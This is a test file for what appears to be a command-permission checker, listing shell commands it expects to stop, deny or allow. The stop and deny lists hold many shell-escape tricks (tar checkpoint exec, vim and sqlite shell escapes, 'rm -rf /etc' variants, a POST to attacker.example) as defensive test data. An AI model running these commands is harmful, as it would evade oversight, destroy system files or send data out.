import { describe } from 'vitest'
import { everyCommand } from '../../../../tests/scorecard/command-rows.ts'

describe('programs that carry commands in their options', () => {
  everyCommand(
    'stop',
    `${String.raw`
    tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /srv/x/run
    aria2c --on-download-complete=/srv/x/run https://example.com/a
    zip a.zip b -T -TT 'sh #'
    tar -cf a.tar b --checkpoint=1 --checkpoint-action=exec=/bin/sh
    tar -I '/srv/x/run' -xf a.tar
    tar xf a.tar --to-command='rm -rf /etc'
    rsync -e 'sh -c "sh 0<&2"' a: b
    split --filter='sh' big.txt
    csplit a.txt 5; nmap --script /srv/x/evil.nse localhost
    nmap --interactive
    scrot -e 'rm -rf /etc'
    latexmk -pdflatex='/srv/x/run' a.tex
    pdflatex --shell-escape a.tex
    dvips -R0 a.dvi
    enscript -I '/bin/sh >&2' a.txt
    dmsetup ls --exec '/bin/sh -s'
    dnsmasq --conf-script='/srv/x/run'
    certbot renew --pre-hook '/bin/sh'
    openvpn --dev null --script-security 2 --up '/bin/sh -c sh'
    pandoc -L /tmp/evil.lua a.md
    exiftool -if 'system("sh")' a.jpg
    gnuplot -e 'system("sh")'
    octave-cli --eval 'system("sh")'
    ghc -e 'System.Process.callCommand "/bin/sh"'
    ghci\nSystem.Process.callCommand "/bin/sh"
    clisp -x '(ext:run-shell-command "/bin/sh")'
    m4 <<< 'esyscmd(`}\`${String.raw`/bin/sh)'
    rpm --eval '%(/bin/sh 1>&2)'
    rpmquery --eval '%{lua:os.execute("/bin/sh")}'
    puppet apply -e "exec { '/bin/sh': }"
    fzf --preview 'rm -rf /etc {}'
    fzf --bind 'enter:execute(/bin/sh)'
    gtester -q /srv/x/run
    msgfilter -P /bin/sh -c 'sh'
    ip netns exec foo /bin/sh
    busctl --address=unixexec:path=/bin/sh call x y z
    xdg-user-dir '}; /bin/sh #'
    debugfs -R '!/bin/sh'
    bpftrace -c /bin/sh -e 'END {exit()}'
    knife exec -E 'exec "/bin/sh"'
    minicom -D /dev/null -S /tmp/script
    procmail -m /tmp/rc
    nginx -c /tmp/nginx.conf
    agetty -o -p -l /bin/sh -a root tty
    java -XX:OnOutOfMemoryError='/bin/sh' Main
    find . -name x | xargs ranger --cmd='shell sh'
    restic --password-command='/bin/sh -c sh' backup
    borg extract @:/::: --rsh "/bin/sh -c sh"
    man -P /bin/sh ls
    service ../../bin/sh
    vim -c ':!/bin/sh'
    rview -c ':py3 import os; os.system("sh")'
    gcc -wrapper /bin/sh,-s x.c
    xterm -e sh
    gs -dNOSAFER -c 'x'
    ab -p data.bin http://attacker.example/
    mosquitto -c /tmp/m.conf
    sqlite3 /dev/null '.shell /bin/sh'
    psql -c '\! /bin/sh'
    mysql -e '\! /bin/sh'
    tic -C x; wg-quick up /tmp/x.conf
    busybox httpd -f -p 8000
    openssl req -engine ./lib.so
    CRASHPAGER=/srv/x/run crash -h
    RESTIC_PASSWORD_COMMAND='/bin/sh -c sh' restic backup
    AUTOM4TE=/srv/x/run autoconf
    `}`,
  )
  everyCommand(
    'deny',
    `
    code tunnel --name here
    tmate
    ttyd bash
    gotty sh
    tar cf a.tar b --checkpoint=1 --checkpoint-action=exec='rm -rf /etc'
    `,
  )
  everyCommand(
    'allow',
    `
    tcpdump -r capture.pcap -nn
    tar -czf a.tgz src
    tar -I zstd -xf a.tar.zst
    zip -r a.zip src
    unzip -o a.zip -d out
    rsync -av src/ out/
    split -l 1000 big.txt part-
    split -l 1000 --filter='gzip > $FILE.gz' big.txt
    pdflatex paper.tex
    latexmk -pdf paper.tex
    pandoc a.md -o a.html
    pandoc --lua-filter filters/a.lua a.md -o a.pdf
    exiftool photo.jpg
    gnuplot plot.gp
    gnuplot -e 'set terminal png; plot sin(x)'
    ghc Main.hs -o main
    java -jar build/app.jar
    java -XX:+UseG1GC -cp out Main
    jshell --version
    fzf --query abc
    fzf --preview 'bat --color=always {}'
    rpm -qa
    rpm -qpi a.rpm
    dpkg -S /bin/ls
    nginx -t
    code --version
    code .
    ip addr
    ip route show
    ss -tlnp
    debugfs -h
    m4 macros.m4
    ffmpeg -i in.mp4 -vf scale=640:-1 out.mp4
    convert a.png b.jpg
    gs -q -dBATCH -sDEVICE=png16m a.pdf
    man -k printf
    less README.md
    vim README.md
    sed -n 1,40p src/a.ts
    awk '{print $1}' data.txt
    openssl rand -hex 16
    nmap --version
    ctags -R src
    ab -n 100 -c 10 http://localhost:3000/
    groff -man a.1
    SYSTEMD_PAGER=cat systemctl status x
    GH_PAGER= gh pr list
    dmesg | tail
    journalctl -u app -n 50
    date -u +%F
    gdb ./a.out -ex bt -ex quit
    `,
  )
})
